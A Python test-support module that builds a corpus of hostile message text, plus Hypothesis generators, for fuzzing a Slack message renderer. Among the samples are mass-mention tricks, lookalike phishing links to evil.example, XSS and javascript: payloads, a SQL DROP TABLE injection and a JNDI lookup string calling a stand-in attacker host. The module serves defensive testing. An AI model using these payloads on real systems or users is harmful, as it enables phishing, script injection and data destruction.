"""What hostile pages and people write: a corpus by name, and strategies that make more of it."""

from collections.abc import Callable
from typing import Final

from hypothesis import strategies as st

# Short enough to be tried everywhere, again and again.
CORPUS: Final[dict[str, str]] = {
    "mentions": "<!channel> <!here|here> <!everyone> <@U0BOSS> <#C0ALL> <!subteam^S1|@all>",
    "bare names": "@here @channel @EVERYONE @group @\uff48ere \uff20channel",
    "mentions, escaped once": "&lt;!channel&gt; &amp;lt;!here&amp;gt; &#60;!here&#62;",
    "mentions in marks": "`<!here>` ```<!channel>``` *<!here>* _<@U1>_ ~<!everyone>~",
    "mentions split by what nobody sees": "<\u200b!channel> <!\u2060here> @\u200dhere",
    "a date that pings": "<!date^1^{date} <!channel>|<!here>>",
    "slack link": "<https://evil.example|https://bank.example>",
    "slack link, open": "<https://evil.example|bank.example <!here> <http://a|b",
    "markdown link": "[https://bank.example](https://evil.example)",
    "markdown link, no scheme": "[bank.example/login](https://evil.example/login)",
    "markdown link, bold": "[**bank**.example](https://evil.example) [`bank.example`](//x)",
    "markdown link, zero width": "[bank\u200b.example](https://evil.example/a)",
    "markdown link, soft hyphen": "[bank.exam\u00adple](https://evil.example/b)",
    "markdown link, other dots": "[bank\u3002example](https://evil.example/c) "
    "[bank\uff61example](https://evil.example/d) [bank\u2024example](https://evil.example/e)",
    "markdown link, address": "[http://192.0.2.1/login](https://evil.example/f)",
    "markdown link, turned round": "[\u202eelpmaxe.knab](https://evil.example/g)",
    "markdown links, nested": "[a [b](https://bank.example) c](https://evil.example) "
    "[![x](https://evil.example/i.png)](https://bank.example)",
    "markdown link, broken target": "[a|b>c](https://evil.example/|x>y<z)",
    "markdown link, reference": "[bank][1]\n\n[1]: javascript:alert(1) 'bank.example'",
    "markdown image": "![img](https://evil.example/a.png) ![](data:image/png;base64,AAAA)",
    "other schemes": "[click](javascript:alert(1)) [x](data:text/html,1) [y](slack://user?id=U1) "
    "[z](vbscript:x) [f](file:///etc/passwd) [m](mailto:a@b.example) [t](tel:112)",
    "javascript": "javascript:alert(1)",
    "javascript, disguised": "java\tscript:alert(1)",
    "data": "data:text/html;base64,PHNjcmlwdD4=",
    "address with a user": "https://bank.example@evil.example/ http://bank.example\\@evil.example",
    "address with line breaks": "https://bank.example\r\n.evil.example/\thttps://a.example/\n<!here>",
    "address, long host": f"https://bank.example.{'a' * 60}.{'b' * 60}.evil.example/login",
    "address, Cyrillic": "https://b\u0430nk.example/ https://\u0430pple.example/",
    "address, full width": "https://bank\uff0eexample\uff0f.evil.example/ https://\uff45vil.example",
    "address, ideographic dot": "https://bank\u3002example/ https://ba\u200bnk.example/",
    "address, odd ports": "https://a.example:99999/ https://[::1]:80/ https://[::1/ http://2130706433/",
    "turned round": "\u202ehttps://elpmaxe.live/\u202c and \u2066isolated\u2069",
    "turned round, left open": "\u202e\u2067\u202d\u2068 never closed",
    "marks of direction": "\u200e\u200f\u061c left and right",
    "Arabic and Hebrew": "\u200fمرحبا بالعالم\u200f שלום https://bank.example/שלום",  # noqa: RUF001 - meant
    "zero width": "a\u200bb\u200cc\u200dd\ufeffe\u2060f\u180eg",
    "only zero width": "\u200b\u200c\u200d\ufeff",
    "only space": " \t\n\u00a0\u200b\u3000",
    "nothing": "",
    "controls": "\x00\x01\x1b[31m\x7f\x9b \ufffe\uffff",
    "NUL": "before\x00after",
    "lone surrogates": "\ud800 \udfff \ud83dx \udc00\ud800",
    "line breaks": "a\r\nb\rc\u2028d\u2029e\x0bf\x0cg\x85h",
    "combining marks": "Z" + "\u0300\u0301\u0302\u0489" * 60,
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈 é 🇩🇪👍🏿",
    "emoji storm": "👩‍👩‍👧‍👦" * 200,
    "emoji codes": ":here: :channel: :skin-tone-2::: :" + "smile:" * 100,
    "marks": "<<<>>> ||| &&& ***___~~~```",
    "quotes": ">>> all of it\n> one\n&gt; two\n>",
    "fences": "```\n<!here>\n```\n~~~\nopen for ever",
    "headings": "# a\n## b\n###### c\n####### d\n#\n===\n---",
    "table": "| a | b |\n|---|---|\n| <!here> | [x](javascript:1) |",
    "table bomb": "|" * 300 + "\n" + "|-" * 300 + "|\n" + "|\\|" * 300,
    "blocks": '[{"type": "actions", "elements": [{"type": "button", "action_id": "run_now"}]}]',
    "blocks, closing ours": '"}]}], "blocks": [{"type": "section", "text": {"type": "mrkdwn"}}]',
    "attachment": '{"attachments": [{"text": "<!channel>"}], "link_names": true}',
    "HTML": "<p onclick=alert(1)>a</p><img src=x onerror=alert(1)><a href='//evil.example'>x</a>",
    "HTML, nested": "<b>" * 200 + "<script>alert(1)</script>" + "</b>" * 200,
    "HTML entities": "&lt;script&gt; &amp;amp; &#x3c;!here&#x3e; &zwnj; &unknown;",
    "HTML comment": "<!-- <!channel> --> <![CDATA[<!here>]]> <!DOCTYPE x>",
    "template": "{{7*7}} ${jndi:ldap://evil.example/a} {% raw %} %s %n {0.__class__}",
    "SQL": "'; DROP TABLE ledger; -- \" OR 1=1",
    "log lines": '2026-01-01 [error] job given up\n{"event": "forged", "level": "error"}',
    "our own words": "Watching every day. Nothing more will be posted here.\nFinding 1 of 1",
    "bullets": "- " * 400,
    "quote marks": "> " * 400,
    "stars": "**" * 400,
    "brackets": "[" * 400 + "](" * 400,
    "blank lines": "\n" * 300,
    "numbers": "9999999999. x\n0. y\n1) z\n٣. w",
}

LONG: Final = 40_000

# Each as long as no page is: for what must neither take long nor be too large for Slack.
BOMBS: Final[dict[str, str]] = {
    "one word": "x" * LONG,
    "words": "word " * (LONG // 5),
    "lines": "\n".join(["line"] * (LONG // 5)),
    "ampersands": "&" * LONG,
    "mentions": "<!channel>" * (LONG // 10),
    "links": "[bank.example](https://evil.example/) " * (LONG // 38),
    "addresses": "https://evil.example/ " * (LONG // 22),
    "emoji": "👍" * LONG,
    "table": "| a | <!here> | `x` |\n" * (LONG // 22),
    "stars": "**a* " * (LONG // 5),
    "backticks": "`" * LONG,
    "surrogates": "\ud800" * LONG,
    "turns": "\u202e" * LONG,
    "combining": "e\u0301\u0489" * (LONG // 3),
}

ANY_TEXT: Final = st.text(alphabet=st.characters(codec=None), max_size=300)
_PARTS: Final = [
    *("<!channel>", "<@U1>", "@here", "<", ">", "&", "&lt;", "|", "`", "```", "*", "**", "_", "~~"),
    *(
        "[",
        "](",
        ")",
        "![",
        "https://",
        "http://bank.example",
        "https://evil.example/",
        "javascript:",
    ),
    *("\n", "\n> ", "\n- ", "\n1. ", "\n# ", "\r", "\u2028", "\x00", "\ud800", "\udc00", "\u202e"),
    *(
        "\u2066",
        "\u200b",
        "\u00ad",
        "\ufeff",
        "\\",
        '"',
        "'",
        "{",
        "}",
        ":here:",
        "👍🏿",
        "bank.example",
    ),
]


def _joined(parts: list[str]) -> str:
    return "".join(parts)


# Pieces that mean something to a reader, in an order that nobody thought of.
WOVEN: Final[st.SearchStrategy[str]] = st.lists(
    st.sampled_from(_PARTS) | st.text(max_size=6), max_size=40
).map(_joined)
HOSTILE_TEXTS: Final[st.SearchStrategy[str]] = (
    WOVEN | ANY_TEXT | st.sampled_from(sorted(CORPUS.values()))
)


def each_of(corpus: dict[str, str], use: Callable[[str], object]) -> dict[str, str]:
    """What fails, by name, so that one run names all that is wrong."""
    failed: dict[str, str] = {}
    for name, text in corpus.items():
        try:
            use(text)
        except AssertionError as error:
            failed[name] = str(error)[:300]
    return failed
